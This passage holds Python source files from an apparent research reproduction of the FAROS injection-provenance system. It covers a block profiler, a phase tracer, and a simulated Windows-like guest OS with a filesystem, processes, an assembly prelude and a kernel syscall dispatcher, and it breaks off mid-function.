    Op.CALLR,
    Op.RET,
    Op.SYSCALL,
    Op.HLT,
}


@dataclass
class BlockProfile:
    """One ranked block in a profiler snapshot."""

    start_pc: int
    retired: int
    taint_slow: int
    processes: List[str]

    def to_dict(self) -> dict:
        return {
            "start_pc": self.start_pc,
            "retired": self.retired,
            "taint_slow": self.taint_slow,
            "processes": list(self.processes),
        }


class HotBlockProfiler(Plugin):
    """Ranks basic blocks by retired instructions and taint-slow work."""

    name = "hotblocks"

    def __init__(self, sample_every: int = 1, tracker=None) -> None:
        super().__init__()
        if sample_every < 1:
            raise ValueError("sample_every must be >= 1")
        self.sample_every = sample_every
        #: The taint tracker whose slow-path work is attributed per
        #: block; may be (re)bound any time before the run starts.
        self.tracker = tracker
        #: block start pc -> [retired weight, taint slow count]
        self._blocks: Dict[int, List[int]] = {}
        #: block start pc -> {process names seen executing it}
        self._block_procs: Dict[int, set] = {}
        self._current: Dict[int, int] = {}  # tid -> current block start pc
        self._countdown = sample_every
        self._last_slow = 0
        #: Retirements that happened on the uninstrumented bulk path
        #: (no pc available, so they cannot be attributed to a block).
        self.unattributed = 0
        self.observed = 0

    # ------------------------------------------------------------------
    # plugin callbacks
    # ------------------------------------------------------------------

    def on_machine_start(self, machine) -> None:
        if self.tracker is not None:
            self._last_slow = self.tracker.stats.slow_retirements

    def on_insn_exec(self, machine, thread, fx) -> None:
        tid = thread.tid
        block = self._current.get(tid)
        if block is None:
            block = fx.pc
            self._current[tid] = block
            procs = self._block_procs.get(block)
            if procs is None:
                procs = self._block_procs[block] = set()
            procs.add(thread.process.name)

        cell = self._blocks.get(block)
        if cell is None:
            cell = self._blocks[block] = [0, 0]

        self.observed += 1
        self._countdown -= 1
        if self._countdown == 0:
            self._countdown = self.sample_every
            cell[0] += self.sample_every

        tracker = self.tracker
        if tracker is not None:
            slow = tracker.stats.slow_retirements
            if slow != self._last_slow:
                cell[1] += slow - self._last_slow
                self._last_slow = slow

        if fx.insn.op in BLOCK_TERMINATORS or fx.syscall or fx.halted:
            self._current.pop(tid, None)

    def on_insns_skipped(self, machine, thread, count: int) -> None:
        # Bulk fast-path retirements carry no pc; account them so
        # coverage (observed + unattributed == total) stays checkable.
        self.unattributed += count
        self._current.pop(thread.tid, None)

    def on_syscall_return(self, machine, thread, number, result) -> None:
        # The kernel may have migrated/rescheduled the thread; its next
        # instruction starts a fresh block either way (SYSCALL is a
        # terminator, so this is belt-and-braces for blocked syscalls
        # that complete much later).
        self._current.pop(thread.tid, None)

    # ------------------------------------------------------------------
    # results
    # ------------------------------------------------------------------

    def top(self, n: int = 10) -> List[BlockProfile]:
        """The *n* hottest blocks, by retired weight then taint work.

        Ties break on ascending start address, so rankings are total
        orders and deterministic across replays.
        """
        ranked = sorted(
            self._blocks.items(),
            key=lambda item: (-item[1][0], -item[1][1], item[0]),
        )
        return [
            BlockProfile(
                start_pc=pc,
                retired=cell[0],
                taint_slow=cell[1],
                processes=sorted(self._block_procs.get(pc, ())),
            )
            for pc, cell in ranked[:n]
        ]

    def snapshot(self, n: int = 10) -> dict:
        return {
            "sample_every": self.sample_every,
            "blocks_seen": len(self._blocks),
            "observed": self.observed,
            "unattributed": self.unattributed,
            "top": [b.to_dict() for b in self.top(n)],
        }
