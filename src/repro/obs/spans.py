"""Phase tracing: nested spans over an analysis run.

An analysis session has a natural phase structure -- boot (build the
scenario), attack (the cheap recording run), detection (the heavyweight
replay with FAROS attached), report (serialization) -- and the DARPA TC
engagement experience is that triage telemetry must say *where the time
went*, not just that the sample was slow.  :class:`Tracer` records that
structure as a list of finished :class:`SpanRecord` rows: wall-clock
durations plus, when the span closes over machine execution, the guest
instruction counts bracketing it.

Spans nest: entering a span while another is open records the parent's
name so renderers can indent.  The tracer is deliberately tiny -- no
sampling, no export protocol -- because span counts here are O(phases),
not O(instructions).

A disabled tracer (``Tracer(enabled=False)``) yields from
:meth:`~Tracer.span` without recording anything, so span call sites can
stay unconditional.
"""

from __future__ import annotations

import time
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Iterator, List, Optional

__all__ = ["SpanRecord", "Tracer", "NULL_TRACER"]


@dataclass
class SpanRecord:
    """One finished phase: name, nesting, and where the time went."""

    name: str
    parent: Optional[str]
    depth: int
    start_s: float
    duration_s: float
    #: Guest clock (retired instructions) at entry/exit, when the span
    #: was given a machine clock to read; None for pure host-side spans.
    start_tick: Optional[int] = None
    end_tick: Optional[int] = None

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "parent": self.parent,
            "depth": self.depth,
            "duration_s": self.duration_s,
            "start_tick": self.start_tick,
            "end_tick": self.end_tick,
        }


class Tracer:
    """Records nested spans; ``spans`` lists them in completion order."""

    def __init__(self, enabled: bool = True) -> None:
        self.enabled = enabled
        self.spans: List[SpanRecord] = []
        self._stack: List[str] = []
        self._origin = time.perf_counter()

    @contextmanager
    def span(self, name: str, clock=None) -> Iterator[None]:
        """Trace the enclosed block as phase *name*.

        *clock* is an optional zero-argument callable returning the
        guest instruction count (e.g. ``lambda: machine.now``); when
        given, the span records the guest ticks it covered as well.
        """
        if not self.enabled:
            yield
            return
        parent = self._stack[-1] if self._stack else None
        depth = len(self._stack)
        self._stack.append(name)
        start_tick = clock() if clock is not None else None
        start = time.perf_counter()
        try:
            yield
        finally:
            duration = time.perf_counter() - start
            self._stack.pop()
            self.spans.append(
                SpanRecord(
                    name=name,
                    parent=parent,
                    depth=depth,
                    start_s=start - self._origin,
                    duration_s=duration,
                    start_tick=start_tick,
                    end_tick=clock() if clock is not None else None,
                )
            )

    def to_dicts(self) -> List[dict]:
        """Finished spans in *start* order (stable for rendering)."""
        return [s.to_dict() for s in sorted(self.spans, key=lambda s: s.start_s)]


#: Shared disabled tracer for un-instrumented runs.
NULL_TRACER = Tracer(enabled=False)
