"""A Windows-like guest operating system model.

This package is the substrate the paper's attacks run against: a kernel
with an ``Nt*``-style syscall table, processes identified by CR3-like
address-space ids, a PE-like module loader with **export tables** mapped
into every process, a filesystem, and a small TCP-like network stack.

Fidelity is scoped to what FAROS' mechanism exercises:

* every byte of guest code/data lives in emulated physical memory;
* all kernel-mediated data movement (packet delivery, file I/O,
  ``NtWriteVirtualMemory``) flows through the machine's instrumented
  physical-copy path so whole-system DIFT sees it;
* in-memory injection primitives exist with their real syscall shapes --
  suspended process creation, section unmapping, cross-process memory
  writes, remote thread creation, thread context modification.
"""

from repro.guestos.addrspace import (
    PERM_R,
    PERM_RW,
    PERM_RWX,
    PERM_RX,
    PERM_W,
    PERM_X,
    AddressSpace,
    VirtualArea,
)
from repro.guestos.files import FileNode, FileSystem
from repro.guestos.kernel import Kernel
from repro.guestos.loader import KERNEL_SHARED_BASE, Module, fnv1a32, stub_address
from repro.guestos.netstack import NetStack, Socket
from repro.guestos.process import Process, Thread, ThreadState, WaitReason
from repro.guestos.syscalls import Sys, WINDOWS_NAMES, syscall_name

__all__ = [
    "AddressSpace",
    "FileNode",
    "FileSystem",
    "KERNEL_SHARED_BASE",
    "Kernel",
    "Module",
    "NetStack",
    "PERM_R",
    "PERM_RW",
    "PERM_RWX",
    "PERM_RX",
    "PERM_W",
    "PERM_X",
    "Process",
    "Socket",
    "Sys",
    "Thread",
    "ThreadState",
    "VirtualArea",
    "WINDOWS_NAMES",
    "WaitReason",
    "fnv1a32",
    "stub_address",
    "syscall_name",
]
