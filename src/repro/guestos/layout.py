"""The guest virtual memory layout (identical for every process).

::

    0x00001000  IMAGE_BASE     program image (code + data), R-X then RW-
    0x00040000  HEAP_BASE      NtAllocateVirtualMemory region (grows up)
    0x0007F000  STACK_BASE     stack pages (grow down from STACK_TOP)
    0x00080000  STACK_TOP      initial SP
    0x000F0000  KERNEL_SHARED  kernel module: API stubs + export table,
                               mapped shared (R-X) into every process

The shared kernel mapping is the analog of ``ntdll``/``kernel32`` being
mapped into every Windows process: it is where linking/loading information
(the export table) lives, and therefore where FAROS plants *export-table*
tags.
"""

IMAGE_BASE = 0x0000_1000
HEAP_BASE = 0x0004_0000
HEAP_LIMIT = 0x0007_0000
STACK_PAGES = 4
STACK_TOP = 0x0008_0000
KERNEL_SHARED_BASE = 0x000F_0000

# Physical layout: the bottom of RAM is kernel-reserved.
DMA_BASE = 0x0000_0400          # NIC DMA ring start (physical)
DMA_SIZE = 0x0000_D000          # 52 KiB ring; kernel module lives above it
KERNEL_RESERVED = 0x0001_0000   # frames below this are never user-allocated
