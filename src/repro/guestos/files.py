"""The guest filesystem.

A flat path -> :class:`FileNode` store standing in for NTFS.  Two details
matter to the reproduction:

* every node keeps an **access version counter**: the paper's *file* tags
  carry ``(file name, version)`` where the version counts accesses, so
  provenance can distinguish "the bytes read on the 3rd open" from later
  reads of a modified file;
* all content enters and leaves guest memory through the kernel, which
  fires ``on_file_read`` / ``on_file_write`` plugin events with the
  physical addresses involved -- FAROS' file-tag insertion point.

Executable images also live here, so sandbox baselines observe the same
artifacts a real Cuckoo run would (files created, read, deleted).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional


class FileError(Exception):
    """Guest-visible filesystem failure (maps to an NTSTATUS error)."""


@dataclass
class FileNode:
    """One file: content plus the access-version counter used by file tags."""

    path: str
    data: bytearray = field(default_factory=bytearray)
    version: int = 0

    def touch(self) -> int:
        """Count one access and return the new version (tag payload)."""
        self.version += 1
        return self.version


class FileSystem:
    """A flat, case-insensitive path namespace (Windows-flavoured)."""

    def __init__(self) -> None:
        self._files: Dict[str, FileNode] = {}
        #: Chronological audit trail: (op, path) pairs, for sandbox baselines.
        self.audit_log: List[tuple] = []

    @staticmethod
    def _key(path: str) -> str:
        return path.lower()

    def create(self, path: str, data: bytes = b"") -> FileNode:
        """Create (or truncate) *path* with *data*."""
        node = FileNode(path, bytearray(data))
        self._files[self._key(path)] = node
        self.audit_log.append(("create", path))
        return node

    def open(self, path: str) -> FileNode:
        """Return the node for *path* or raise :class:`FileError`."""
        node = self._files.get(self._key(path))
        if node is None:
            raise FileError(f"no such file: {path}")
        return node

    def exists(self, path: str) -> bool:
        return self._key(path) in self._files

    def delete(self, path: str) -> None:
        """Remove *path* -- the 'loader deletes itself' anti-forensics step."""
        if self._key(path) not in self._files:
            raise FileError(f"no such file: {path}")
        del self._files[self._key(path)]
        self.audit_log.append(("delete", path))

    def read(self, path: str, offset: int, n: int) -> bytes:
        """Read up to *n* bytes at *offset*; bumps the access version."""
        node = self.open(path)
        node.touch()
        self.audit_log.append(("read", path))
        return bytes(node.data[offset : offset + n])

    def write(self, path: str, offset: int, data: bytes) -> int:
        """Write *data* at *offset*, extending the file; bumps the version."""
        node = self.open(path)
        node.touch()
        end = offset + len(data)
        if len(node.data) < end:
            node.data.extend(b"\x00" * (end - len(node.data)))
        node.data[offset:end] = data
        self.audit_log.append(("write", path))
        return len(data)

    def list_paths(self) -> List[str]:
        """All current paths (original casing)."""
        return sorted(node.path for node in self._files.values())

    def get(self, path: str) -> Optional[FileNode]:
        return self._files.get(self._key(path))
