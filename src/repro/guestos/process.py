"""Processes, threads, and handle tables.

A :class:`Process` owns an address space (whose ``asid`` is the paper's
CR3 -- the architecture-level process identity FAROS builds *process*
tags from), a handle table, and one or more :class:`Thread` s.  Threads
carry the saved CPU context between scheduler quanta.

The threading model is deliberately minimal but sufficient for the
attacks: processes can be created suspended (process hollowing), their
main thread's context can be rewritten (``NtSetContextThread``), and
remote threads can be planted (``NtCreateThreadEx`` -- code injection).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Any, Dict, List, Optional

from repro.guestos.addrspace import AddressSpace
from repro.guestos.layout import STACK_TOP
from repro.isa.registers import NUM_REGS, Reg


class ThreadState(enum.Enum):
    READY = "ready"
    RUNNING = "running"
    BLOCKED = "blocked"
    SUSPENDED = "suspended"
    DEAD = "dead"


class WaitReason(enum.Enum):
    NONE = "none"
    RECV = "recv"      # waiting for socket data
    ACCEPT = "accept"  # waiting for an inbound connection
    SLEEP = "sleep"    # timed wait


def fresh_context(entry: int, sp: int = STACK_TOP, arg: int = 0) -> dict:
    """A pristine CPU context starting at *entry* (argument in R1)."""
    regs = [0] * NUM_REGS
    regs[Reg.SP] = sp
    regs[Reg.R1] = arg
    return {"regs": regs, "pc": entry, "flag_z": False, "flag_n": False, "halted": False}


@dataclass
class Wait:
    """Why a thread is blocked, and how to finish its syscall later."""

    reason: WaitReason
    data: Any  # socket id for RECV/ACCEPT, absolute wake tick for SLEEP
    syscall: int
    args: tuple


@dataclass
class Thread:
    tid: int
    process: "Process"
    context: dict
    state: ThreadState = ThreadState.READY
    wait: Optional[Wait] = None
    #: Instructions retired since this thread's last syscall, accounted
    #: per scheduler slice by the machine's syscall-step watchdog.
    steps_since_syscall: int = 0

    @property
    def runnable(self) -> bool:
        return self.state is ThreadState.READY

    def __repr__(self) -> str:
        return f"Thread(tid={self.tid}, {self.process.name}, {self.state.value})"


@dataclass
class Handle:
    """One handle-table entry; *kind* is 'file', 'socket', or 'process'."""

    kind: str
    obj: Any


class Process:
    """One guest process."""

    def __init__(
        self,
        pid: int,
        name: str,
        image_path: str,
        aspace: AddressSpace,
        parent_pid: Optional[int] = None,
    ) -> None:
        self.pid = pid
        self.name = name
        self.image_path = image_path
        self.aspace = aspace
        self.parent_pid = parent_pid
        self.threads: List[Thread] = []
        self.handles: Dict[int, Handle] = {}
        self._next_handle = 4
        self.alive = True
        self.exit_code: Optional[int] = None
        self.created_suspended = False
        #: Modules *registered* with the loader (reflectively injected
        #: DLLs never appear here -- that gap is what defeats Cuckoo).
        self.modules: List[Any] = []
        #: Console output lines (guest-visible stdout).
        self.console: List[str] = []

    @property
    def cr3(self) -> int:
        """Architecture-level process identity (the address space id)."""
        return self.aspace.asid

    @property
    def main_thread(self) -> Thread:
        return self.threads[0]

    def add_handle(self, kind: str, obj: Any) -> int:
        handle = self._next_handle
        self._next_handle += 4
        self.handles[handle] = Handle(kind, obj)
        return handle

    def get_handle(self, value: int, kind: str) -> Optional[Any]:
        """Return the object behind handle *value* if it has *kind*."""
        entry = self.handles.get(value)
        if entry is None or entry.kind != kind:
            return None
        return entry.obj

    def close_handle(self, value: int) -> Optional[Handle]:
        return self.handles.pop(value, None)

    def __repr__(self) -> str:
        state = "alive" if self.alive else f"exited({self.exit_code})"
        return f"Process(pid={self.pid}, {self.name!r}, cr3={self.cr3:#x}, {state})"
