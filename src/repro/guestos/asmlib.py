"""Assembly-source helpers for writing guest programs.

Guest programs (attacks, workloads, tests) are assembled from text; this
module provides the shared prelude of ``.equ`` constants -- syscall
numbers, permission masks, layout addresses, API stub addresses -- so
program sources read like real user-space assembly:

.. code-block:: asm

    movi r0, SYS_RECV
    movi r1, ...           ; socket handle
    syscall

plus small composable snippet builders for the recurring idioms
(syscall invocation, console printing, busy loops).
"""

from __future__ import annotations

import re
from typing import Iterable

from repro.guestos import layout
from repro.guestos.addrspace import PERM_R, PERM_RW, PERM_RWX, PERM_RX, PERM_W, PERM_X
from repro.guestos.loader import API_TABLE, export_table_address, fnv1a32, stub_address
from repro.guestos.syscalls import Sys


def _sanitize(name: str) -> str:
    """Turn an API name into an assembler symbol fragment."""
    return re.sub(r"[^A-Za-z0-9_]", "_", name).upper()


def prelude() -> str:
    """The standard ``.equ`` block every guest program should include."""
    lines = ["; ---- standard guest prelude ----"]
    for member in Sys:
        lines.append(f".equ SYS_{member.name}, {int(member)}")
    lines += [
        f".equ PERM_R, {PERM_R}",
        f".equ PERM_W, {PERM_W}",
        f".equ PERM_X, {PERM_X}",
        f".equ PERM_RW, {PERM_RW}",
        f".equ PERM_RX, {PERM_RX}",
        f".equ PERM_RWX, {PERM_RWX}",
        f".equ IMAGE_BASE, {layout.IMAGE_BASE:#x}",
        f".equ HEAP_BASE, {layout.HEAP_BASE:#x}",
        f".equ STACK_TOP, {layout.STACK_TOP:#x}",
        f".equ KERNEL_SHARED_BASE, {layout.KERNEL_SHARED_BASE:#x}",
        f".equ EXPORT_TABLE, {export_table_address():#x}",
    ]
    for api, _sysno in API_TABLE:
        lines.append(f".equ STUB_{_sanitize(api)}, {stub_address(api):#x}")
        lines.append(f".equ HASH_{_sanitize(api)}, {fnv1a32(api):#x}")
    lines.append("; ---- end prelude ----")
    return "\n".join(lines)


def syscall3(number_equ: str, a1: str = "0", a2: str = "0", a3: str = "0") -> str:
    """Emit a 3-argument syscall; operands are assembler expressions.

    Arguments that name registers are moved with ``mov``, anything else
    with ``movi``.
    """
    def load(reg: str, value: str) -> str:
        value = value.strip()
        if re.fullmatch(r"(r[0-7]|sp|fp|lr)", value, re.IGNORECASE):
            return f"    mov {reg}, {value}"
        return f"    movi {reg}, {value}"

    return "\n".join(
        [
            load("r1", a1),
            load("r2", a2),
            load("r3", a3),
            f"    movi r0, {number_equ}",
            "    syscall",
        ]
    )


def print_string(label: str, length: int) -> str:
    """Emit a console write of *length* bytes at *label*."""
    return syscall3("SYS_WRITE_CONSOLE", label, str(length))


def exit_process(status: int = 0) -> str:
    return f"    movi r1, {status}\n    movi r0, SYS_EXIT\n    syscall"


def sleep(ticks: int) -> str:
    return f"    movi r1, {ticks}\n    movi r0, SYS_SLEEP\n    syscall"


def busy_loop(label: str, iterations: int) -> str:
    """A deterministic compute loop (used to shape workload cost)."""
    return f"""
    movi r6, {iterations}
{label}:
    subi r6, r6, 1
    cmpi r6, 0
    jnz {label}
"""


def copy_loop(label: str, src_reg: str, dst_reg: str, len_reg: str) -> str:
    """Byte-copy loop: ``memcpy(dst, src, len)`` clobbering r6.

    Emits LDB/STB pairs, so DIFT propagates per-byte provenance exactly
    as a guest-visible copy should.
    """
    return f"""
{label}:
    cmpi {len_reg}, 0
    jz {label}_done
    ldb r6, [{src_reg}]
    stb [{dst_reg}], r6
    addi {src_reg}, {src_reg}, 1
    addi {dst_reg}, {dst_reg}, 1
    subi {len_reg}, {len_reg}, 1
    jmp {label}
{label}_done:
"""


def program(*sections: str) -> str:
    """Join prelude + *sections* into one assembly source."""
    return "\n".join([prelude(), *sections])
