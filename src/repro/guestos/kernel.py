"""The guest kernel: syscalls, scheduling, and device plumbing.

Every path data can take between guest-visible locations runs through
methods here, and each one is instrumented for whole-system DIFT:

* packet payloads land in the NIC DMA ring via
  :meth:`Machine.phys_write` (``source="nic"``) and are announced with
  ``on_packet_receive`` -- FAROS' netflow-tag insertion point;
* ``recv``/``NtReadFile``/``NtWriteVirtualMemory`` move bytes with
  :meth:`Machine.phys_copy`, which applies the taint copy rule per byte;
* file reads/writes announce the guest buffer's physical addresses via
  ``on_file_read``/``on_file_write`` -- the file-tag insertion points;
* module loads announce export tables via ``on_module_load``.

Blocking syscalls use a restart model: a blocked thread stores its
syscall number+args and the kernel simply re-runs the handler when the
wait condition may have changed (packet arrival, timer expiry).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Dict, List, Optional, Tuple

from collections import deque

from repro.emulator.devices import Packet
from repro.guestos import layout
from repro.guestos.addrspace import (
    PERM_R,
    PERM_RW,
    PERM_RWX,
    PERM_RX,
    PERM_W,
    PERM_X,
    AddressSpace,
)
from repro.guestos.files import FileError, FileNode, FileSystem
from repro.guestos.loader import Module, build_kernel_module, fnv1a32
from repro.guestos.netstack import NetError, NetStack, Socket
from repro.guestos.process import (
    Process,
    Thread,
    ThreadState,
    Wait,
    WaitReason,
    fresh_context,
)
from repro.guestos.syscalls import ERR, Sys
from repro.isa.assembler import Program
from repro.isa.cpu import AccessKind
from repro.isa.errors import GuestFault
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, contiguous_runs

if TYPE_CHECKING:  # pragma: no cover
    from repro.emulator.machine import Machine

#: Default stack size per thread, in pages.
STACK_BYTES = layout.STACK_PAGES * PAGE_SIZE


@dataclass
class FileHandle:
    """An open file: the node plus this handle's sequential offset."""

    node: FileNode
    offset: int = 0


class Kernel:
    """The guest OS kernel for one machine."""

    def __init__(self, machine: "Machine") -> None:
        self.machine = machine
        self.fs = FileSystem()
        self.netstack = NetStack(machine.devices.nic.ip)
        self.processes: Dict[int, Process] = {}
        self._images: Dict[str, Program] = {}
        self._next_pid = 100
        self._next_tid = 1000
        self._ready: deque = deque()
        self._blocked: List[Thread] = []
        #: Commands passed to WinExec, for sandbox observation.
        self.shell_log: List[Tuple[int, str]] = []
        #: (pid, text) console lines across all processes.
        self.console_log: List[Tuple[int, str]] = []
        #: Global atom table: atom id -> (kernel paddrs, length).  Atoms
        #: live in kernel-owned frames -- user data parked in kernel
        #: memory, which is what AtomBombing abuses as a covert
        #: cross-process channel.
        self._atoms: Dict[int, Tuple[Tuple[int, ...], int]] = {}
        self._next_atom = 0xC000
        self.kernel_module = self._install_kernel_module()

    # ------------------------------------------------------------------
    # boot-time setup
    # ------------------------------------------------------------------

    def _install_kernel_module(self) -> Module:
        """Place the shared kernel module into reserved physical frames."""
        module = build_kernel_module()
        n_pages = (module.size + PAGE_SIZE - 1) >> PAGE_SHIFT
        # Reserved low memory, above the DMA ring: no user frames live here.
        base_paddr = layout.DMA_BASE + layout.DMA_SIZE
        if base_paddr + n_pages * PAGE_SIZE > layout.KERNEL_RESERVED:
            raise MemoryError("kernel module does not fit in reserved memory")
        self._kernel_frames = [
            (base_paddr >> PAGE_SHIFT) + i for i in range(n_pages)
        ]
        paddrs = tuple(range(base_paddr, base_paddr + module.size))
        self.machine.phys_write(paddrs, module.image, source="kernel")
        return module

    def register_image(self, path: str, program: Program) -> None:
        """Install an executable image on disk (and remember its entry)."""
        if program.base != layout.IMAGE_BASE:
            raise ValueError(
                f"images must be assembled for base {layout.IMAGE_BASE:#x}"
            )
        self.fs.create(path, program.code)
        self._images[path.lower()] = program

    def image_program(self, path: str) -> Optional[Program]:
        return self._images.get(path.lower())

    # ------------------------------------------------------------------
    # process lifecycle
    # ------------------------------------------------------------------

    def spawn(
        self,
        image_path: str,
        name: Optional[str] = None,
        suspended: bool = False,
        parent: Optional[Process] = None,
    ) -> Process:
        """Create a process from a registered image.

        The image content is *read from the filesystem* into the new
        address space through the instrumented write path, so the new
        process' code bytes start life carrying a file tag -- exactly as
        a real loader's ``NtReadFile``-backed section mapping would under
        whole-system DIFT.
        """
        program = self.image_program(image_path)
        if program is None:
            raise FileError(f"no such image: {image_path}")
        pid = self._next_pid
        self._next_pid += 1
        aspace = AddressSpace(asid=0x1000 + pid * 0x10, allocator=self.machine.allocator)
        proc = Process(
            pid=pid,
            name=name or image_path.rsplit("\\", 1)[-1],
            image_path=image_path,
            aspace=aspace,
            parent_pid=parent.pid if parent else None,
        )
        proc.created_suspended = suspended
        self.processes[pid] = proc

        # Shared kernel module (stubs + export table), read+execute.
        aspace.map_shared(
            layout.KERNEL_SHARED_BASE,
            self._kernel_frames,
            PERM_RX,
            name="kernel32.dll",
            module="kernel32.dll",
        )
        # Image: module-backed (so malfind ignores it), RWX for data writes.
        image_size = max(len(program.code), 1)
        aspace.map_region(layout.IMAGE_BASE, image_size, PERM_RWX, name="image")
        for area in aspace.areas:
            if area.name == "image":
                area.module = proc.name
        # Stack.
        aspace.map_region(
            layout.STACK_TOP - STACK_BYTES, STACK_BYTES, PERM_RW, name="stack"
        )

        # Copy the image through the instrumented path: a file read.
        node = self.fs.open(image_path)
        version = node.touch()
        paddrs = aspace.translate_range(
            layout.IMAGE_BASE, len(program.code), AccessKind.WRITE
        )
        self.machine.phys_write(paddrs, program.code, source=f"file:{image_path}")
        self.machine.plugins.on_file_read(
            self.machine, proc, node.path, version, paddrs
        )

        image_module = Module(
            name=proc.name, base=layout.IMAGE_BASE, image=program.code, path=image_path
        )
        proc.modules.append(image_module)

        thread = self._new_thread(proc, entry=program.entry)
        if suspended:
            thread.state = ThreadState.SUSPENDED
        else:
            self._enqueue(thread)

        self.machine.plugins.on_module_load(self.machine, proc, self.kernel_module)
        self.machine.plugins.on_module_load(self.machine, proc, image_module)
        self.machine.plugins.on_process_create(self.machine, proc)
        return proc

    def _new_thread(self, proc: Process, entry: int, sp: Optional[int] = None, arg: int = 0) -> Thread:
        thread = Thread(
            tid=self._next_tid,
            process=proc,
            context=fresh_context(entry, sp=sp if sp is not None else layout.STACK_TOP, arg=arg),
        )
        self._next_tid += 1
        proc.threads.append(thread)
        return thread

    def terminate_process(self, proc: Process, status: int) -> None:
        """Tear a process down (exit, kill, or crash)."""
        if not proc.alive:
            return
        proc.alive = False
        proc.exit_code = status
        for thread in proc.threads:
            thread.state = ThreadState.DEAD
            if thread in self._blocked:
                self._blocked.remove(thread)
        self._ready = deque(t for t in self._ready if t.process is not proc)
        proc.aspace.release_all()
        self.machine.plugins.on_process_exit(self.machine, proc, status)

    def crash_process(self, proc: Process, fault: GuestFault) -> None:
        """Kill *proc* after an unhandled guest fault."""
        self.console_log.append((proc.pid, f"*** fault: {fault}"))
        self.terminate_process(proc, status=0xDEAD)

    def find_process(self, name: str, exclude_pid: Optional[int] = None) -> Optional[Process]:
        for proc in self.processes.values():
            if proc.alive and proc.name.lower() == name.lower() and proc.pid != exclude_pid:
                return proc
        return None

    # ------------------------------------------------------------------
    # scheduling
    # ------------------------------------------------------------------

    def _enqueue(self, thread: Thread) -> None:
        thread.state = ThreadState.READY
        self._ready.append(thread)

    def requeue(self, thread: Thread) -> None:
        """Put a thread whose quantum expired back on the run queue."""
        self._enqueue(thread)

    def pick_thread(self) -> Optional[Thread]:
        """Wake due sleepers, then pop the next runnable thread."""
        self.wake_sleepers()
        while self._ready:
            thread = self._ready.popleft()
            if thread.state is ThreadState.READY:
                return thread
        return None

    def wake_sleepers(self) -> None:
        now = self.machine.now
        for thread in list(self._blocked):
            wait = thread.wait
            if wait and wait.reason is WaitReason.SLEEP and now >= wait.data:
                self._complete_wait(thread, result=0)

    def next_wake_at(self) -> Optional[int]:
        """Earliest absolute tick a sleeping thread becomes runnable."""
        ticks = [
            t.wait.data
            for t in self._blocked
            if t.wait and t.wait.reason is WaitReason.SLEEP
        ]
        return min(ticks) if ticks else None

    def has_runnable(self) -> bool:
        return any(t.state is ThreadState.READY for t in self._ready)

    def _block(self, thread: Thread, reason: WaitReason, data, num: int, args: tuple) -> None:
        thread.state = ThreadState.BLOCKED
        thread.wait = Wait(reason, data, num, args)
        self._blocked.append(thread)

    def _complete_wait(self, thread: Thread, result: int) -> None:
        """Finish a blocked syscall: deliver result, make runnable."""
        wait = thread.wait
        thread.wait = None
        if thread in self._blocked:
            self._blocked.remove(thread)
        from repro.isa.registers import Reg

        thread.context["regs"][Reg.R0] = result & 0xFFFFFFFF
        self._enqueue(thread)
        if wait is not None:
            self.machine.plugins.on_syscall_return(
                self.machine, thread, wait.syscall, result
            )

    def _retry_blocked_io(self) -> None:
        """Re-run blocked RECV/ACCEPT handlers after a packet delivery."""
        for thread in list(self._blocked):
            wait = thread.wait
            if wait is None or wait.reason not in (WaitReason.RECV, WaitReason.ACCEPT):
                continue
            result = self._dispatch(thread, wait.syscall, wait.args, retrying=True)
            if result is not None:
                self._complete_wait(thread, result)

    # ------------------------------------------------------------------
    # packet delivery (called by the machine's event loop)
    # ------------------------------------------------------------------

    def deliver_packet(self, packet: Packet) -> None:
        """DMA an inbound packet into guest memory and route it."""
        paddrs = self.machine.dma_alloc(len(packet.payload))
        if packet.payload:
            self.machine.phys_write(paddrs, packet.payload, source="nic")
        self.machine._ctr_packets_in.inc()
        self.machine.plugins.on_packet_receive(
            self.machine, packet, paddrs
        )
        if self.netstack.deliver(packet, paddrs) is not None:
            self._retry_blocked_io()

    # ------------------------------------------------------------------
    # user-memory helpers
    # ------------------------------------------------------------------

    def _read_user(self, proc: Process, vaddr: int, n: int) -> Tuple[bytes, Tuple[int, ...]]:
        paddrs = proc.aspace.translate_range(vaddr, n, AccessKind.READ)
        read_bytes = self.machine.memory.read_bytes
        data = b"".join(
            read_bytes(start, length) for start, length in contiguous_runs(paddrs)
        )
        return data, paddrs

    def _read_user_string(self, proc: Process, vaddr: int, limit: int = 256) -> str:
        out = bytearray()
        for i in range(limit):
            paddr = proc.aspace.translate(vaddr + i, AccessKind.READ)
            byte = self.machine.memory.read_byte(paddr)
            if byte == 0:
                break
            out.append(byte)
        return out.decode("latin-1")

    # ------------------------------------------------------------------
    # syscall dispatch
    # ------------------------------------------------------------------

    def syscall(self, thread: Thread, number: int, args: tuple) -> Optional[int]:
        """Run one syscall.  Returns the result, or ``None`` if the
        thread blocked (or died) and must not be resumed by the caller."""
        try:
            result = self._dispatch(thread, number, args, retrying=False)
        except GuestFault:
            # A bad pointer from user space is the guest's bug: fail the
            # call rather than the machine (Windows returns an NTSTATUS).
            return ERR
        except (FileError, NetError):
            return ERR
        return result

    def _dispatch(
        self, thread: Thread, number: int, args: tuple, retrying: bool
    ) -> Optional[int]:
        proc = thread.process
        machine = self.machine
        a1, a2, a3, a4, a5 = (tuple(args) + (0, 0, 0, 0, 0))[:5]

        # ---- process self-management ---------------------------------
        if number == Sys.EXIT:
            self.terminate_process(proc, a1)
            return None
        if number == Sys.WRITE_CONSOLE:
            data, _ = self._read_user(proc, a1, min(a2, 4096))
            text = data.decode("latin-1")
            proc.console.append(text)
            self.console_log.append((proc.pid, text))
            return len(data)
        if number == Sys.SLEEP:
            self._block(thread, WaitReason.SLEEP, machine.now + max(a1, 1), number, args)
            return None
        if number == Sys.GET_TIME:
            return machine.now & 0x7FFFFFFF

        # ---- own virtual memory --------------------------------------
        if number == Sys.ALLOC:
            return self._alloc_in(proc.aspace, size=a1, perms=a2, addr_hint=0)
        if number == Sys.FREE:
            try:
                proc.aspace.unmap_region(a1)
                return 0
            except GuestFault:
                return ERR
        if number == Sys.PROTECT:
            proc.aspace.protect_region(a1, a2, a3 or PERM_RW)
            return 0

        # ---- filesystem ----------------------------------------------
        if number == Sys.CREATE_FILE:
            path = self._read_user_string(proc, a1)
            node = self.fs.create(path)
